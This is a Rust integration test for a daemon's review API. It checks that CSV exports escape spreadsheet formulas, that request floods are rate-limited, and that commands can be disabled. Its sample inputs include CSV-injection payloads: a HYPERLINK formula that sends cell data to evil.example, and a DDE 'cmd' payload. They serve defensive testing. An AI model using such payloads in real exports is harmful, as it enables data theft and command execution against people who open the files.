//! Reviews: text that a spreadsheet would evaluate as a formula, a flood of them, and commands that are switched off.

use std::fs;
use std::net::TcpStream;

use serde_json::{Value, json};

use crate::live::{Daemon, FAST, command_headers, http, request, sticking, wait_for};

/// Name and comment that a spreadsheet takes for formulas, and one that already starts with an escape.
const FORMULAS: [[&str; 2]; 3] =
    [["=HYPERLINK(\"http://evil.example/?\"&A1)", "=cmd|' /C calc'!A0"], ["+ann", "\t@SUM(1,2)"], ["-ann", "'=1+1"]];

fn keep(daemon: &Daemon, [by, why]: [&str; 2]) -> (u16, String) {
    let body = json!({"label": "no_stiction", "method": "other", "by": by, "why": why}).to_string();
    let stream = TcpStream::connect(&daemon.web).unwrap();
    request(stream, &["POST", "/api/v1/loops/FIC101/review"], &command_headers("localhost", &[]), &body)
}

#[test]
fn reviews_are_limited_harmless_in_a_spreadsheet_and_off_with_commands() {
    let dir = tempfile::tempdir().unwrap();
    let daemon = Daemon::start(dir.path(), FAST);
    daemon.play(&sticking(dir.path()));
    daemon.wait_for_estimates(2);
    for formula in FORMULAS {
        let (status, body) = keep(&daemon, formula);
        assert_eq!(status, 200, "{body}");
    }
    let all: Value = serde_json::from_str(&http(&daemon.web, "/api/v1/reviews")).unwrap();
    let kept = all["reviews"].as_array().unwrap();
    let texts: Vec<_> = kept.iter().map(|r| [r["by"].as_str().unwrap(), r["why"].as_str().unwrap()]).collect();
    assert_eq!(texts, FORMULAS);
    let index = daemon.recordings.join("reviews/INDEX.csv");
    for table in [http(&daemon.web, "/api/v1/reviews.csv"), fs::read_to_string(index).unwrap()] {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(table.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 1 + FORMULAS.len());
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
    }
    // A flood: ten at once, then one every two seconds are accepted.
    let statuses: Vec<u16> = (0..60).map(|_| keep(&daemon, ["y", "z"]).0).collect();
    let taken = statuses.iter().filter(|s| **s == 200).count();
    assert!(taken < 30 && statuses.iter().all(|s| [200, 429].contains(s)), "{statuses:?}");
    let config = dir.path().join("config.toml");
    let text = fs::read_to_string(&config).unwrap();
    fs::write(&config, format!("{text}[commands]\nenabled = false\n")).unwrap();
    daemon.signal("HUP");
    wait_for("commands that are off", || (keep(&daemon, ["ann", "x"]).0 == 403).then_some(()));
    let site: Value = serde_json::from_str(&http(&daemon.web, "/api/v1/site")).unwrap();
    assert_eq!(site["commands"], false);
    daemon.stop();
}
